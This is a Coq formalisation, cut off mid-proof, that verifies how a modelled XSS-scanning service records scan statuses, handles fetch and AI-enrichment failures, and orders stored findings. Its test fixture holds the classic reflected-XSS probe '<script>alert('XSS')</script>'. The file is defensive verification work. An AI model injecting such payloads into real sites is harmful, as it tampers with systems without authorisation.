Lemma triple_insert_scan_f env K req :
  triple (store K) (insert_scan env req) (fun _ => store K) (fun _ w => store K w /\ faulty env).
Proof.
  intros w Hw. unfold insert_scan, db_op.
  destruct (env_db_fails env (w_dbops w)) eqn:E; [split; [exact Hw|now exists (w_dbops w)]|exact Hw].
Qed.

Lemma triple_insert_result_view env rs0 h0 r :
  ScanResult.status r = "pending" ->
  triple (store (fun rs h => rs = rs0 /\ h = h0)) (insert_result env r)
    (fun _ => rec_view (ScanResult.scan_id r) rs0 h0 (path ["pending"]))
    (fun _ w => store (fun rs h => rs = rs0 /\ h = h0) w /\ faulty env).
Proof.
  intros Hst w [Hrs Hh]. unfold insert_result, db_op.
  destruct (env_db_fails env (w_dbops w)) eqn:E; [split; [split; assumption|now exists (w_dbops w)]|].
  unfold rec_view, store; cbn. exists r, [r]. rewrite Hrs, Hh.
  repeat split; [constructor; [reflexivity|constructor]|]. unfold path. simpl. now rewrite Hst.
Qed.

Section Paths.
Variable env : Env.
Variable req : ScanRequest.t.
Variables (rs0 h0 : list ScanResult.t).
Hypothesis Hfresh : fresh_sid (ScanRequest.id req) rs0.

Let view st := rec_view (ScanRequest.id req) rs0 h0 (path st).

Lemma triple_scan_body_path :
  triple (view ["pending"]) (scan_body env req)
    (fun _ => view ["pending"; "running"; "completed"])
    (fun _ w => view ["pending"; "running"] w \/ (view ["pending"] w /\ faulty env)).
Proof.
  unfold scan_body, view.
  eapply triple_bind; [apply triple_now|]. intros t0.
  eapply triple_bind.
  { eapply triple_post; [intros ? ? Hw; exact Hw|intros ? ? Hw; right; exact Hw|].
    apply (triple_update_path env _ rs0 h0 Hfresh ["pending"] "running"); reflexivity. }
  intros u. simpl app.
  eapply triple_bind; [apply triple_now|]. intros start_time.
  eapply triple_bind.
  { eapply triple_post; [intros ? ? Hw; exact Hw|intros ? ? Hw; left; exact Hw|].
    apply triple_scan_stages. }
  intros [[[[analyzed end_time] duration] counts] summary]. apply triple_lift. intros ?.
  do 4 (eapply triple_bind;
    [eapply triple_post; [intros ? ? Hq; exact Hq|intros ? ? Hq; left; exact Hq|];
     apply triple_getitem|]; intros ?; apply triple_lift; intros ?).
  eapply triple_post;
    [| |apply (triple_update_path env _ rs0 h0 Hfresh ["pending"; "running"] "completed");
        reflexivity].
  - intros ? ? Hw; exact Hw.
  - intros ? ? Hw; left; exact (proj1 Hw).
Qed.

Lemma triple_background_scan_path :
  triple (view ["pending"]) (background_scan env req)
    (fun _ w => view ["pending"; "running"; "completed"] w \/
                view ["pending"; "running"; "failed"] w \/
                (view ["pending"; "failed"] w /\ faulty env))
    (fun _ w => (view ["pending"; "running"] w \/ view ["pending"] w) /\ faulty env).
Proof.
  unfold background_scan.
  eapply triple_try; [|intros e].
  { eapply triple_post; [| |apply triple_scan_body_path].
    - intros ? ? Hw; left; exact Hw.
    - intros ? ? Hw; exact Hw. }
  apply triple_or.
  - eapply triple_bind; [apply triple_now|]. intros t.
    eapply triple_post;
      [| |apply (triple_update_path env _ rs0 h0 Hfresh ["pending"; "running"] "failed");
          reflexivity].
    + intros ? ? Hw; right; left; exact Hw.
    + intros ? ? [Hw Hf]; split; [left; exact Hw|exact Hf].
  - apply triple_lift. intros Hf.
    eapply triple_bind; [apply triple_now|]. intros t.
    eapply triple_post;
      [| |apply (triple_update_path env _ rs0 h0 Hfresh ["pending"] "failed"); reflexivity].
    + intros ? ? Hw; right; right; split; [exact Hw|exact Hf].
    + intros ? ? [Hw _]; split; [right; exact Hw|exact Hf].
Qed.

Lemma triple_submit_path :
  triple (store (fun rs h => rs = rs0 /\ h = h0)) (submit env req)
    (fun _ w => view ["pending"; "running"; "completed"] w \/
                view ["pending"; "running"; "failed"] w \/
                (view ["pending"; "failed"] w /\ faulty env))
    (fun _ w => (view ["pending"; "running"] w \/ view ["pending"] w \/
                 store (fun rs h => rs = rs0 /\ h = h0) w) /\ faulty env).
Proof.
  unfold submit, create_scan.
  apply (triple_bind _ _ _ (fun _ => view ["pending"])).
  - apply (triple_bind _ _ _ (fun _ => store (fun rs h => rs = rs0 /\ h = h0))).
    { eapply triple_post; [| |apply triple_insert_scan_f].
      - intros ? ? Hw; exact Hw.
      - intros ? ? [Hw Hf]; split; [right; right; exact Hw|exact Hf]. }
    intros u. eapply triple_bind; [apply triple_fresh_uuid|]. intros rid.
    eapply triple_post;
      [| |apply (triple_insert_result_view env rs0 h0
                  (ScanResult.mk rid (ScanRequest.id req) "pending" 0 0 0 0 0
                     None None None None None)); reflexivity].
    + intros ? ? Hw; exact Hw.
    + intros ? ? [Hw Hf]; split; [right; right; exact Hw|exact Hf].
  - intros u. eapply triple_post; [| |apply triple_background_scan_path].
    + intros ? ? Hw; exact Hw.
    + intros ? ? [Hw Hf]; split; [|exact Hf].
      destruct Hw as [Hw|Hw]; [left|right; left]; exact Hw.
Qed.

End Paths.

(** ** Scans that meet no storage failure *)

Definition has_four_keys (counts : gmap string nat) : Prop :=
  is_Some (counts !! "critical") /\ is_Some (counts !! "high") /\
  is_Some (counts !! "medium") /\ is_Some (counts !! "low").

Lemma has_four_keys_insert counts k n :
  has_four_keys counts -> has_four_keys (<[k := n]> counts).
Proof.
  intros (H1 & H2 & H3 & H4).
  repeat split; apply lookup_insert_is_Some;
    match goal with |- ?a = ?b \/ _ => destruct (decide (a = b)); tauto end.
Qed.

Lemma severity_counts0_has_four : has_four_keys severity_counts0.
Proof. repeat split; eexists; reflexivity. Qed.

(** A completed state with the total of one run of [perform_xss_scan]
    and a recorded duration. *)
Definition completed_with (env : Env) (req : ScanRequest.t) (r : ScanResult.t) : Prop :=
  ScanResult.status r = "completed" /\
  (exists n, ScanResult.total_vulnerabilities r =
     length (acc_vulns (perform_xss_scan (env_fetch env (ScanRequest.target_url req)) req
                          (scan_start n)))) /\
  (exists d, ScanResult.scan_duration r = Some d).

Section NoFault.
Variable env : Env.
Hypothesis Hnf : forall n, env_db_fails env n = false.

Lemma not_faulty : faulty env -> False.
Proof. intros [n Hn]. now rewrite Hnf in Hn. Qed.

Lemma triple_insert_vuln_nf K v E :
  triple (store K) (insert_vuln env v) (fun _ => store K) E.
Proof. intros w Hw. unfold insert_vuln, db_op. rewrite Hnf. exact Hw. Qed.

Lemma triple_analyze_all_nf K l E :
  triple (store K) (mapM (analyze_and_store env) l)
    (fun res w => store K w /\ res = map (analyze_vulnerability_with_ai env) l) E.
Proof.
  induction l as [|v l IH]; simpl.
  - apply triple_ret. now split.
  - apply (triple_bind _ _ _ (fun a w => store K w /\ a = analyze_vulnerability_with_ai env v)).
    + unfold analyze_and_store. eapply triple_bind; [apply triple_insert_vuln_nf|].
      intros ?. apply triple_ret. now split.
    + intros a. apply triple_lift. intros ->.
      eapply triple_bind; [exact IH|]. intros ys. apply triple_lift. intros ->.
      apply triple_ret. now split.
Qed.

Lemma triple_count_nf K E counts l :
  has_four_keys counts ->
  Forall (fun v => produced_severity (Vulnerability.severity v)) l ->
  triple (store K) (foldM count_severity counts l) (fun c w => store K w /\ has_four_keys c) E.
Proof.
  revert counts. induction l as [|v l IH]; intros counts Hk Hl; simpl.
  - apply triple_ret. now split.
  - inversion Hl as [|? ? Hv Hl']; subst.
    assert (Hin : is_Some (counts !! Vulnerability.severity v)).
    { destruct Hk as (H1 & H2 & H3 & H4). destruct Hv as [-> | [-> | ->]]; assumption. }
    destruct Hin as [n Hn]. unfold count_severity. rewrite Hn.
    apply (triple_bind _ _ _ (fun c w => store K w /\
             c = <[Vulnerability.severity v := S n]> counts)).
    + apply triple_ret. now split.
    + intros c. apply triple_lift. intros ->.
      apply IH; [now apply has_four_keys_insert|exact Hl'].
Qed.

Lemma triple_getitem_nf K E counts k :
  is_Some (counts !! k) -> triple (store K) (getitem counts k) (fun _ => store K) E.
Proof. intros [n Hn] w Hw. unfold getitem. rewrite Hn. exact Hw. Qed.

Variable req : ScanRequest.t.
Variables (rs0 h0 : list ScanResult.t).
Hypothesis Hfresh : fresh_sid (ScanRequest.id req) rs0.
(** The executive summary is only requested when there are findings. *)
Hypothesis Hexec : forall n,
  acc_vulns (perform_xss_scan (env_fetch env (ScanRequest.target_url req)) req (scan_start n))
    <> [] ->
  is_Some (env_oracle env (Executive (ScanRequest.id req))).

Lemma triple_scan_stages_nf K t E :
  triple (store K) (scan_stages env req t)
    (fun res w => store K w /\
       let '(analyzed, _, _, counts, _) := res in
       has_four_keys counts /\
       exists n, analyzed = map (analyze_vulnerability_with_ai env)
         (acc_vulns (perform_xss_scan (env_fetch env (ScanRequest.target_url req)) req
                       (scan_start n)))) E.
Proof.
  unfold scan_stages.
  eapply triple_bind; [apply triple_scan_task|]. intros acc. apply triple_lift. intros [n Hacc].
  eapply triple_bind; [apply triple_analyze_all_nf|]. intros analyzed. apply triple_lift. intros Ha.
  eapply triple_bind; [apply triple_now|]. intros end_time.
  assert (Hsev : Forall (fun v => produced_severity (Vulnerability.severity v)) analyzed).
  { subst analyzed. apply Forall_map.
    pose proof (perform_xss_scan_severities (env_fetch env (ScanRequest.target_url req)) req n)
      as Hok. unfold vulns_ok in Hok. rewrite <- Hacc in Hok.
    eapply Forall_impl; [exact Hok|]. intros v Hv. simpl. now rewrite analyze_severity. }
  eapply triple_bind; [apply (triple_count_nf K _ severity_counts0 analyzed
                                severity_counts0_has_four Hsev)|].
  intros counts. apply triple_lift. intros Hk.
  apply (triple_bind _ _ _ (fun _ => store K)).
  - destruct analyzed as [|a rest] eqn:Ean; [apply triple_ret; auto|].
    destruct (Hexec n) as [s Hs].
    { rewrite <- Hacc. intros He. rewrite He in Ha. discriminate. }
    intros w Hw. unfold call_oracle. rewrite Hs. exact Hw.
  - intros summary. apply triple_ret. intros w Hw. split; [exact Hw|].
    split; [exact Hk|]. exists n. now subst.
Qed.

Let view P := rec_view (ScanRequest.id req) rs0 h0 P.

Definition done_path (r : ScanResult.t) (H : list ScanResult.t) : Prop :=
  path ["pending"; "running"; "completed"] r H /\ completed_with env req r.

Lemma triple_scan_body_nf :
  triple (view (path ["pending"])) (scan_body env req) (fun _ => view done_path)
    (fun _ _ => False).
Proof.
  unfold scan_body.
  eapply triple_bind; [apply triple_now|]. intros t0.
  eapply triple_bind.
  { eapply triple_post;
      [| |apply (triple_update_path env _ rs0 h0 Hfresh ["pending"] "running"); reflexivity].
    - intros ? ? Hw; exact Hw.
    - intros ? ? [_ Hf]; exact (not_faulty Hf). }
  intros ?. eapply triple_bind; [apply triple_now|]. intros start_time.
  eapply triple_bind; [apply triple_scan_stages_nf|].
  intros [[[[analyzed end_time] duration] counts] summary].
  apply triple_lift. intros [(Hc & Hh & Hm & Hl) [n Han]].
  eapply triple_bind; [apply (triple_getitem_nf _ _ _ _ Hc)|]. intros c.
  eapply triple_bind; [apply (triple_getitem_nf _ _ _ _ Hh)|]. intros h.
  eapply triple_bind; [apply (triple_getitem_nf _ _ _ _ Hm)|]. intros m.
  eapply triple_bind; [apply (triple_getitem_nf _ _ _ _ Hl)|]. intros l.
  eapply triple_post;
    [| |apply (triple_update_view env _ rs0 h0 Hfresh (path ["pending"; "running"])); reflexivity].
  - intros ? ? (r' & H' & Hrs & Hh' & Hsid & HH & (r & H & Hp & -> & ->)).
    eexists _, _. split; [exact Hrs|]. split; [exact Hh'|]. split; [exact Hsid|].
    split; [exact HH|]. split.
    + unfold path in *. now rewrite map_app, Hp.
    + split; [reflexivity|]. split; [|now exists duration].
      exists n. simpl. now rewrite Han, length_map.
  - intros ? ? [_ Hf]; exact (not_faulty Hf).
Qed.

Lemma triple_submit_nf :
  triple (store (fun rs h => rs = rs0 /\ h = h0)) (submit env req) (fun _ => view done_path)
    (fun _ _ => False).
Proof.
  unfold submit, create_scan.
  apply (triple_bind _ _ _ (fun _ => view (path ["pending"]))).
  - apply (triple_bind _ _ _ (fun _ => store (fun rs h => rs = rs0 /\ h = h0))).
    { eapply triple_post; [| |apply triple_insert_scan_f].
      - intros ? ? Hw; exact Hw.
      - intros ? ? [_ Hf]; exact (not_faulty Hf). }
    intros u. eapply triple_bind; [apply triple_fresh_uuid|]. intros rid.
    eapply triple_post;
      [| |apply (triple_insert_result_view env rs0 h0
                  (ScanResult.mk rid (ScanRequest.id req) "pending" 0 0 0 0 0
                     None None None None None)); reflexivity].
    + intros ? ? Hw; exact Hw.
    + intros ? ? [_ Hf]; exact (not_faulty Hf).
  - intros u. unfold background_scan.
    eapply triple_try; [apply triple_scan_body_nf|]. intros e w [].
Qed.

End NoFault.

(** The run of [submit] from [w] when no storage operation fails: it
    returns normally, appends one document for the scan, and that
    document went through pending, running and completed. *)
Lemma submit_nf_run env req w :
  (forall n, env_db_fails env n = false) ->
  fresh_sid (ScanRequest.id req) (w_results w) ->
  (forall n,
     acc_vulns (perform_xss_scan (env_fetch env (ScanRequest.target_url req)) req (scan_start n))
       <> [] ->
     is_Some (env_oracle env (Executive (ScanRequest.id req)))) ->
  fst (submit env req w) = inr tt /\
  exists r H, w_results (snd (submit env req w)) = (w_results w ++ [r])%list /\
    w_history (snd (submit env req w)) = (w_history w ++ H)%list /\
    ScanResult.scan_id r = ScanRequest.id req /\
    map ScanResult.status H = ["pending"; "running"; "completed"] /\
    completed_with env req r.
Proof.
  intros Hnf Hf Hex.
  pose proof (triple_submit_nf env Hnf req (w_results w) (w_history w) Hf Hex w
                (conj eq_refl eq_refl)) as T.
  destruct (submit env req w) as [[e|[]] w'] eqn:E; simpl in *; [contradiction|].
  destruct T as (r & H & Hrs & Hh & Hsid & _ & Hp & Hc).
  split; [reflexivity|]. exists r, H. auto.
Qed.

Lemma rec_view_path sid rs0 h0 st w :
  rec_view sid rs0 h0 (path st) w ->
  exists H, w_history w = (h0 ++ H)%list /\
    Forall (fun x => ScanResult.scan_id x = sid) H /\ map ScanResult.status H = st.
Proof.
  intros (r & H & _ & Hh & _ & HH & Hp). exists H. auto.
Qed.

(** C9.  For a submission whose scan id is not yet in [scan_results],
    the states persisted for it are pending, running, then exactly one of
    completed or failed; when a storage operation fails the sequence may
    stop early (nothing, pending, pending-running, or pending-failed). *)
Theorem submit_status_path (env : Env) (req : ScanRequest.t) (w : World) :
  fresh_sid (ScanRequest.id req) (w_results w) ->
  exists H, w_history (snd (submit env req w)) = (w_history w ++ H)%list /\
    Forall (fun x => ScanResult.scan_id x = ScanRequest.id req) H /\
    (map ScanResult.status H = ["pending"; "running"; "completed"] \/
     map ScanResult.status H = ["pending"; "running"; "failed"] \/
     (faulty env /\
      (map ScanResult.status H = [] \/ map ScanResult.status H = ["pending"] \/
       map ScanResult.status H = ["pending"; "running"] \/
       map ScanResult.status H = ["pending"; "failed"]))).
Proof.
  intros Hf.
  pose proof (triple_submit_path env req (w_results w) (w_history w) Hf w (conj eq_refl eq_refl))
    as T.
  destruct (submit env req w) as [[e|x] w'] eqn:E; simpl in *.
  - destruct T as [[Hv|[Hv|Hv]] Hfa].
    + destruct (rec_view_path _ _ _ _ _ Hv) as (H & ? & ? & ?). exists H. eauto 10.
    + destruct (rec_view_path _ _ _ _ _ Hv) as (H & ? & ? & ?). exists H. eauto 10.
    + destruct Hv as [_ Hh]. exists []. rewrite app_nil_r. eauto 10.
  - destruct T as [Hv|[Hv|[Hv Hfa]]].
    + destruct (rec_view_path _ _ _ _ _ Hv) as (H & ? & ? & ?). exists H. eauto 10.
    + destruct (rec_view_path _ _ _ _ _ Hv) as (H & ? & ? & ?). exists H. eauto 10.
    + destruct (rec_view_path _ _ _ _ _ Hv) as (H & ? & ? & ?). exists H. eauto 10.
Qed.

Lemma submit_status_path_witness :
  fresh_sid "scan-1" [] /\
  exists H, w_history (snd (submit demo_env demo_req empty_world)) = ([] ++ H)%list /\
    Forall (fun x => ScanResult.scan_id x = "scan-1") H /\
    (map ScanResult.status H = ["pending"; "running"; "completed"] \/
     map ScanResult.status H = ["pending"; "running"; "failed"] \/
     (faulty demo_env /\
      (map ScanResult.status H = [] \/ map ScanResult.status H = ["pending"] \/
       map ScanResult.status H = ["pending"; "running"] \/
       map ScanResult.status H = ["pending"; "failed"]))).
Proof.
  split; [constructor|].
  apply (submit_status_path demo_env demo_req empty_world). constructor.
Defined.

(** Two submissions with the same client-chosen id: the second task
    updates the first document, which re-enters "running" after
    "completed"; the second document stays "pending". *)
Lemma submit_status_path_counterexample :
  map ScanResult.status
      (List.filter (fun r => Nat.eqb (ScanResult.id r) 0)
         (w_history (snd (serve demo_env [demo_req; demo_req] empty_world)))) =
    ["pending"; "running"; "completed"; "running"; "completed"] /\
  map ScanResult.status (w_results (snd (serve demo_env [demo_req; demo_req] empty_world))) =
    ["completed"; "pending"].
Proof. split; vm_compute; reflexivity. Qed.

(** A target whose fetch raises, with working storage. *)
Definition unreachable_env : Env :=
  mkEnv (fun _ => FetchRaised) (fun _ => None) (fun _ => false) (fun n => Z.of_nat n).

(** A target answering 404 with an empty body, with working storage. *)
Definition not_found_env : Env :=
  mkEnv (fun _ => FetchResponse 404 []) (fun _ => Some "summary") (fun _ => false)
        (fun n => Z.of_nat n).

(** C6.  When fetching the target raises (network error, undecodable
    body) and no storage operation fails, the submission returns normally
    and its scan result goes pending, running, completed, with
    [total_vulnerabilities = 0] and a recorded [scan_duration].  A
    response with any HTTP status is not a fetch failure: it is scanned
    exactly as a 200 response with the same body, and (with working
    storage, a fresh scan id and an executive summary when there are
    findings) the scan completes counting the findings of that body and
    of the target's query parameters. *)
Theorem fetch_failure_completes (env : Env) (req : ScanRequest.t) (w : World) :
  (env_fetch env (ScanRequest.target_url req) = FetchRaised ->
   (forall n, env_db_fails env n = false) ->
   fresh_sid (ScanRequest.id req) (w_results w) ->
   fst (submit env req w) = inr tt /\
   exists r H, w_results (snd (submit env req w)) = (w_results w ++ [r])%list /\
     w_history (snd (submit env req w)) = (w_history w ++ H)%list /\
     ScanResult.scan_id r = ScanRequest.id req /\
     map ScanResult.status H = ["pending"; "running"; "completed"] /\
     ScanResult.status r = "completed" /\ ScanResult.total_vulnerabilities r = 0%nat /\
     exists d, ScanResult.scan_duration r = Some d) /\
  (forall st page,
   env_fetch env (ScanRequest.target_url req) = FetchResponse st page ->
   (forall acc, perform_xss_scan (FetchResponse st page) req acc =
                perform_xss_scan (FetchResponse 200 page) req acc) /\
   ((forall n, env_db_fails env n = false) ->
    fresh_sid (ScanRequest.id req) (w_results w) ->
    (forall n, acc_vulns (perform_xss_scan (FetchResponse 200 page) req (scan_start n)) <> [] ->
       is_Some (env_oracle env (Executive (ScanRequest.id req)))) ->
    fst (submit env req w) = inr tt /\
    exists r, w_results (snd (submit env req w)) = (w_results w ++ [r])%list /\
      ScanResult.scan_id r = ScanRequest.id req /\ ScanResult.status r = "completed" /\
      exists n, ScanResult.total_vulnerabilities r =
        length (acc_vulns (perform_xss_scan (FetchResponse 200 page) req (scan_start n))))).
Proof.
  split.
  - intros Hfe Hnf Hf.
    destruct (submit_nf_run env req w Hnf Hf) as [Hok (r & H & Hrs & Hh & Hsid & Hp & Hs & [n Ht] & Hd)].
    { intros n. rewrite Hfe. simpl. contradiction. }
    split; [exact Hok|]. exists r, H. rewrite Hfe in Ht. simpl in Ht. auto 10.
  - intros st page Hfe. split; [intros acc; reflexivity|].
    intros Hnf Hf Hex.
    destruct (submit_nf_run env req w Hnf Hf) as [Hok (r & H & Hrs & Hh & Hsid & Hp & Hs & [n Ht] & Hd)].
    { intros n. rewrite Hfe. exact (Hex n). }
    split; [exact Hok|]. exists r. rewrite Hfe in Ht.
    split; [exact Hrs|]. split; [exact Hsid|]. split; [exact Hs|]. exists n. exact Ht.
Qed.

Lemma fetch_failure_completes_witness :
  (fst (submit unreachable_env demo_req empty_world) = inr tt /\
   exists r H, w_results (snd (submit unreachable_env demo_req empty_world)) = ([] ++ [r])%list /\
     w_history (snd (submit unreachable_env demo_req empty_world)) = ([] ++ H)%list /\
     ScanResult.scan_id r = "scan-1" /\
     map ScanResult.status H = ["pending"; "running"; "completed"] /\
     ScanResult.status r = "completed" /\ ScanResult.total_vulnerabilities r = 0%nat /\
     exists d, ScanResult.scan_duration r = Some d) /\
  (fst (submit not_found_env demo_req empty_world) = inr tt /\
   exists r, w_results (snd (submit not_found_env demo_req empty_world)) = ([] ++ [r])%list /\
     ScanResult.scan_id r = "scan-1" /\ ScanResult.status r = "completed" /\
     exists n, ScanResult.total_vulnerabilities r =
       length (acc_vulns (perform_xss_scan (FetchResponse 200 []) demo_req (scan_start n)))).
Proof.
  split.
  - apply (proj1 (fetch_failure_completes unreachable_env demo_req empty_world)).
    + reflexivity.
    + intros n. reflexivity.
    + constructor.
  - apply (proj2 (proj2 (fetch_failure_completes not_found_env demo_req empty_world) 404%Z []
                   eq_refl)).
    + intros n. reflexivity.
    + constructor.
    + intros n _. eexists. reflexivity.
Defined.

(** A 404 answer is not a fetch failure: its body is parsed and the URL
    parameters are still tested, so the scan completes with findings. *)
Lemma fetch_failure_completes_counterexample :
  map (fun r => (ScanResult.status r, ScanResult.total_vulnerabilities r))
      (w_results (snd (submit not_found_env demo_req empty_world))) = [("completed", 3%nat)].
Proof. vm_compute. reflexivity. Qed.

(** An oracle whose technical analysis answers and whose remediation
    call raises. *)
Definition half_oracle_env : Env :=
  mkEnv (fun _ => FetchResponse 200 demo_page)
        (fun c => match c with
                  | Analysis _ => Some "analysis"
                  | Remediation _ => None
                  | Executive _ => Some "summary"
                  end)
        (fun _ => false) (fun n => Z.of_nat n).

Definition demo_vuln : Vulnerability.t :=
  Vulnerability.mk 0 "scan-1" "reflected_xss" "medium" "https://x.test/search" "q"
    "<script>alert('XSS')</script>" "evidence" None None false.

(** C7.  The two enrichment fields are both the oracle's texts when both
    calls succeed, and both the fallback texts when either call fails;
    when the analysis call fails the remediation call is not made: the
    outcome is the same whatever the remediation call would answer; and,
    with working storage, a scan id not yet in [scan_results] and an
    executive summary available, a submission completes whatever the
    per-finding calls do. *)
Theorem enrichment_fallback (env : Env) (v : Vulnerability.t) :
  (Vulnerability.ai_summary (analyze_vulnerability_with_ai env v),
   Vulnerability.remediation_suggestion (analyze_vulnerability_with_ai env v)) =
    match env_oracle env (Analysis (Vulnerability.id v)),
          env_oracle env (Remediation (Vulnerability.id v)) with
    | Some a, Some b => (Some a, Some b)
    | _, _ => (Some ai_fallback_summary, Some ai_fallback_remediation)
    end /\
  (env_oracle env (Analysis (Vulnerability.id v)) = None ->
   forall env', (forall c, (forall i, c <> Remediation i) -> env_oracle env' c = env_oracle env c) ->
   analyze_vulnerability_with_ai env' v = analyze_vulnerability_with_ai env v) /\
  (forall req w,
     (forall n, env_db_fails env n = false) ->
     fresh_sid (ScanRequest.id req) (w_results w) ->
     is_Some (env_oracle env (Executive (ScanRequest.id req))) ->
     fst (submit env req w) = inr tt /\
     exists r, w_results (snd (submit env req w)) = (w_results w ++ [r])%list /\
       ScanResult.status r = "completed").
Proof.
  split.
  - unfold analyze_vulnerability_with_ai.
    destruct (env_oracle env (Analysis _)); [|reflexivity].
    destruct (env_oracle env (Remediation _)); reflexivity.
  - split.
    + intros Hna env' Hsame. unfold analyze_vulnerability_with_ai.
      rewrite (Hsame (Analysis (Vulnerability.id v))) by discriminate. rewrite Hna. reflexivity.
    + intros req w Hnf Hf Hex.
      destruct (submit_nf_run env req w Hnf Hf) as [Hok (r & H & Hrs & _ & _ & _ & Hs & _)].
      { intros n _. exact Hex. }
      split; [exact Hok|]. now exists r.
Qed.

(** No analysis, and a remediation that would answer. *)
Definition remediation_only_env : Env :=
  mkEnv (fun _ => FetchRaised)
        (fun c => match c with Remediation _ => Some "fix" | _ => None end)
        (fun _ => false) (fun n => Z.of_nat n).

Lemma enrichment_fallback_witness :
  analyze_vulnerability_with_ai remediation_only_env demo_vuln =
    analyze_vulnerability_with_ai unreachable_env demo_vuln /\
  fst (submit half_oracle_env demo_req empty_world) = inr tt /\
  exists r, w_results (snd (submit half_oracle_env demo_req empty_world)) = ([] ++ [r])%list /\
    ScanResult.status r = "completed".
Proof.
  split.
  - apply (proj1 (proj2 (enrichment_fallback unreachable_env demo_vuln))).
    + reflexivity.
    + intros c Hc. destruct c as [i|i|sid]; [reflexivity| |reflexivity].
      exfalso. exact (Hc i eq_refl).
  - apply (proj2 (proj2 (enrichment_fallback half_oracle_env demo_vuln)) demo_req empty_world).
    + intros n. reflexivity.
    + constructor.
    + eexists. reflexivity.
Defined.

(** The analysis succeeds and the remediation call fails: the analysis
    text is overwritten by the fallback. *)
Lemma enrichment_fallback_counterexample :
  env_oracle half_oracle_env (Analysis (Vulnerability.id demo_vuln)) = Some "analysis" /\
  Vulnerability.ai_summary (analyze_vulnerability_with_ai half_oracle_env demo_vuln) =
    Some ai_fallback_summary.
Proof. split; reflexivity. Qed.

#[global] Instance severity_le_total : Total severity_le.
Proof. intros v1 v2. apply String.le_total. Qed.

(** C8.  [get_scan_vulnerabilities] returns the first (at most) 1000 of
    the scan's records in ascending order of the severity label string
    (so "critical" < "high" < "low" < "medium"): they followed by the
    records left out are a permutation of the scan's records, sorted by
    label; when the scan has at most 1000 records, all are returned. *)
Theorem get_scan_vulnerabilities_order (scan_id : string) (vulns : list Vulnerability.t) :
  ("critical" <? "high")%string = true /\ ("high" <? "low")%string = true /\
  ("low" <? "medium")%string = true /\
  exists rest,
    (get_scan_vulnerabilities scan_id vulns ++ rest)%list
      ≡ₚ filter (fun v => Vulnerability.scan_id v = scan_id) vulns /\
    Sorted severity_le (get_scan_vulnerabilities scan_id vulns ++ rest)%list /\
    length (get_scan_vulnerabilities scan_id vulns) =
      Nat.min 1000 (length (filter (fun v => Vulnerability.scan_id v = scan_id) vulns)) /\
    (length (filter (fun v => Vulnerability.scan_id v = scan_id) vulns) <= 1000 ->
     get_scan_vulnerabilities scan_id vulns
       ≡ₚ filter (fun v => Vulnerability.scan_id v = scan_id) vulns).
Proof.
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  set (all := filter (fun v => Vulnerability.scan_id v = scan_id) vulns).
  pose proof (merge_sort_Permutation severity_le all) as Hp.
  pose proof (Sorted_merge_sort severity_le all) as Hs.
  exists (drop 1000 (merge_sort severity_le all)).
  unfold get_scan_vulnerabilities. fold all. rewrite take_drop.
  split; [exact Hp|]. split; [exact Hs|]. split.
  - rewrite length_take, (Permutation_length Hp). lia.
  - intros Hle. rewrite take_ge; [exact Hp|]. rewrite (Permutation_length Hp). lia.
Qed.

Definition demo_vuln_with (severity : string) : Vulnerability.t :=
  Vulnerability.mk 0 "scan-1" "reflected_xss" severity "https://x.test/search" "q"
    "payload" "evidence" None None false.

Definition demo_vulns : list Vulnerability.t :=
  [demo_vuln_with "medium"; demo_vuln_with "critical"; demo_vuln_with "low";
   demo_vuln_with "high"].

Lemma get_scan_vulnerabilities_order_witness :
  map Vulnerability.severity (get_scan_vulnerabilities "scan-1" demo_vulns) =
    ["critical"; "high"; "low"; "medium"] /\
  get_scan_vulnerabilities "scan-1" demo_vulns
    ≡ₚ filter (fun v => Vulnerability.scan_id v = "scan-1") demo_vulns.
Proof.
  split; [vm_compute; reflexivity|].
  destruct (get_scan_vulnerabilities_order "scan-1" demo_vulns) as (_ & _ & _ & rest & _ & _ & _ & H).
  apply H. vm_compute. lia.
Defined.

(** A scan with 1001 findings: only 1000 of them are returned. *)
Lemma get_scan_vulnerabilities_order_counterexample :
  length (filter (fun v => Vulnerability.scan_id v = "scan-1")
            (repeat (demo_vuln_with "high") 1001)) = 1001%nat /\
  length (get_scan_vulnerabilities "scan-1" (repeat (demo_vuln_with "high") 1001)) = 1000%nat.
Proof. split; vm_compute; reflexivity. Qed.

(* ================================================================= *)
(** * Further properties of the scan loops *)

(** The [is_vulnerable] test of [test_payload]. *)
Definition flagged (payload : string) : bool :=
  existsb (fun pattern => str_in pattern (lower payload)) markers.

(** The loop invariant of [perform_xss_scan], started with the uuid
    supply at [n] and the payload list [pl]: findings are numbered
    consecutively from [n]; there is one finding per logged call whose
    payload is flagged; every call uses a payload of [pl] and one of
    the two surface kinds; every finding is what [test_payload] returned
    for one of the logged calls. *)
Definition scan_inv (sid : string) (pl : list string) (n : nat) (acc : ScanAcc) : Prop :=
  acc_next acc = (n + length (acc_vulns acc))%nat /\
  map Vulnerability.id (acc_vulns acc) = seq n (length (acc_vulns acc)) /\
  length (acc_vulns acc) = length (List.filter (fun c => flagged (call_payload c)) (acc_calls acc)) /\
  Forall (fun c => In (call_payload c) pl /\
                   (call_kind c = "form_input" \/ call_kind c = "url_parameter")) (acc_calls acc) /\
  Forall (fun v => exists c, In c (acc_calls acc) /\
            test_payload (Vulnerability.id v) sid (call_endpoint c) (call_parameter c)
              (call_payload c) (call_kind c) = Some v) (acc_vulns acc).

Lemma test_payload_some vid sid ep par payload kind v :
  test_payload vid sid ep par payload kind = Some v ->
  flagged payload = true /\ Vulnerability.id v = vid.
Proof.
  unfold test_payload, flagged. destruct (existsb _ markers); [|discriminate].
  intros H. injection H as <-. split; reflexivity.
Qed.

Lemma test_payload_none vid sid ep par payload kind :
  test_payload vid sid ep par payload kind = None -> flagged payload = false.
Proof.
  unfold test_payload, flagged. destruct (existsb _ markers); [discriminate|reflexivity].
Qed.

Lemma scan_inv_run_test sid pl n ep par kind acc payload :
  In payload pl -> kind = "form_input" \/ kind = "url_parameter" ->
  scan_inv sid pl n acc -> scan_inv sid pl n (run_test sid ep par kind acc payload).
Proof.
  intros Hp Hk (Hnext & Hids & Hlen & Hcalls & Hv). unfold run_test.
  set (c := mkCall ep par payload kind).
  assert (Hcalls' : Forall (fun c => In (call_payload c) pl /\
             (call_kind c = "form_input" \/ call_kind c = "url_parameter"))
             (acc_calls acc ++ [c])%list).
  { apply Forall_app. split; [exact Hcalls|]. constructor; [split; assumption|constructor]. }
  assert (Hold : Forall (fun v => exists c', In c' (acc_calls acc ++ [c])%list /\
